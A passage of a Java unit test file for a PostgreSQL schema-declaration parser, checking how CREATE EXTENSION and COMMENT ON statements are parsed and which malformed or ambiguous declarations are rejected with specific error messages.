				"PostgreSQL has no CREATE OR REPLACE for INDEX; declare it with CREATE");
	}

	@Test
	void rejectsCommentsOnUndeclaredOrAmbiguousEntities() {
		assertRejected("CREATE VIEW v AS SELECT 1;\nCOMMENT ON VIEW w IS 'x';", 2,
				"COMMENT ON VIEW public.w: no such view is declared in the same source");
		assertRejected("CREATE MATERIALIZED VIEW v AS SELECT 1;\nCOMMENT ON VIEW v IS 'x';", 2,
				"COMMENT ON VIEW public.v: no such view is declared in the same source");
		assertRejected("CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS 'select 1';\n"
				+ "COMMENT ON FUNCTION f(text) IS 'x';", 2,
				"COMMENT ON FUNCTION public.f(text): no such function is declared in the same source");
		assertRejected("CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql AS 'select 1';\n"
				+ "CREATE FUNCTION f(a text) RETURNS int LANGUAGE sql AS 'select 1';\nCOMMENT ON FUNCTION f IS 'x';", 3,
				"COMMENT ON FUNCTION public.f: 2 overloads are declared; name its argument types");
		assertRejected("CREATE VIEW v AS SELECT 1;\nCOMMENT ON VIEW v IS 'x';\nCOMMENT ON VIEW v IS 'y';", 3,
				"COMMENT ON VIEW public.v: the entity already has a comment, at line 2");
		assertRejected("CREATE VIEW v AS SELECT 1;\nCOMMENT ON VIEW v IS 42;", 2,
				"COMMENT ON VIEW public.v IS must be followed by a string constant or NULL, found '42'");
		assertRejected("CREATE VIEW v AS SELECT 1;\nCOMMENT ON VIEW v IS 'x' || 'y';", 2,
				"unexpected '||' after the comment on VIEW public.v");
	}

	@Test
	void extensionsOfEveryForm() {
		List<PgEntity> entities = PgEntities.fromSql("""
				CREATE EXTENSION hstore;
				create extension if not exists "uuid-ossp" with schema extensions version '1.1';
				CREATE EXTENSION Citext VERSION "1.6" SCHEMA Extensions;
				COMMENT ON EXTENSION citext IS 'case-insensitive text';
				""", "sql", "app");
		assertThat(entities).containsExactly(new PgExtension("hstore", "app", null, null, "sql:1"),
				new PgExtension("uuid-ossp", "extensions", "1.1", null, "sql:2"),
				new PgExtension("citext", "extensions", "1.6", "case-insensitive text", "sql:3"));
		assertThat(entities).extracting(PgEntity::kind, PgEntity::identity)
			.containsExactly(tuple(EntityKind.EXTENSION, "hstore"), tuple(EntityKind.EXTENSION, "\"uuid-ossp\""),
					tuple(EntityKind.EXTENSION, "citext"));
		assertThat(entities.get(1).createStatement())
			.isEqualTo("CREATE EXTENSION IF NOT EXISTS \"uuid-ossp\" WITH SCHEMA extensions VERSION '1.1'");
	}

	@Test
	void extensionStatementsThatCannotDeclare() {
		assertRejected("CREATE EXTENSION earthdistance CASCADE", 1,
				"extension earthdistance: CASCADE would install extensions nothing declares; declare each extension "
						+ "it requires");
		assertRejected("CREATE EXTENSION public.hstore", 1,
				"the name of extension hstore cannot be schema-qualified: an extension's name is unique in the "
						+ "database; name the schema of its objects with WITH SCHEMA");
		assertRejected("CREATE EXTENSION hstore SCHEMA a SCHEMA b", 1, "extension hstore: SCHEMA is given twice");
		assertRejected("CREATE EXTENSION hstore VERSION 1.8", 1,
				"extension hstore: VERSION must be followed by a string constant or a name, found '1.8'");
		assertRejected("CREATE EXTENSION hstore FROM unpackaged", 1,
				"unexpected 'FROM' in CREATE EXTENSION hstore: only SCHEMA and VERSION may follow its name");
		assertRejected("CREATE OR REPLACE EXTENSION hstore", 1,
				"PostgreSQL has no CREATE OR REPLACE for EXTENSION; declare it with CREATE");
		assertRejected("CREATE EXTENSION hstore;\nCREATE EXTENSION HSTORE SCHEMA other", 2,
				"EXTENSION hstore is declared twice, at lines 1 and 2");
		assertRejected("CREATE EXTENSION hstore;\nCOMMENT ON EXTENSION citext IS 'x'", 2,
				"COMMENT ON EXTENSION citext: no such extension is declared in the same source");
		assertRejected("CREATE EXTENSION hstore;\nALTER EXTENSION hstore UPDATE TO '1.8'", 2,
				ACCEPTED + "ALTER EXTENSION");
	}

	private static PgEntity single(String sql) {
		List<PgEntity> entities = PgEntities.fromSql(sql);
		assertThat(entities).hasSize(1);
		return entities.get(0);
	}

	private static void assertRejected(String sql, int line, String reason) {
		assertThatExceptionOfType(InvalidDeclarationException.class).isThrownBy(() -> PgEntities.fromSql(sql))
			.withMessage("sql:" + line + ": " + reason)
			.satisfies((ex) -> assertThat(ex.getSourceName()).isEqualTo("sql"))
			.satisfies((ex) -> assertThat(ex.getLine()).isEqualTo(line));
	}

}
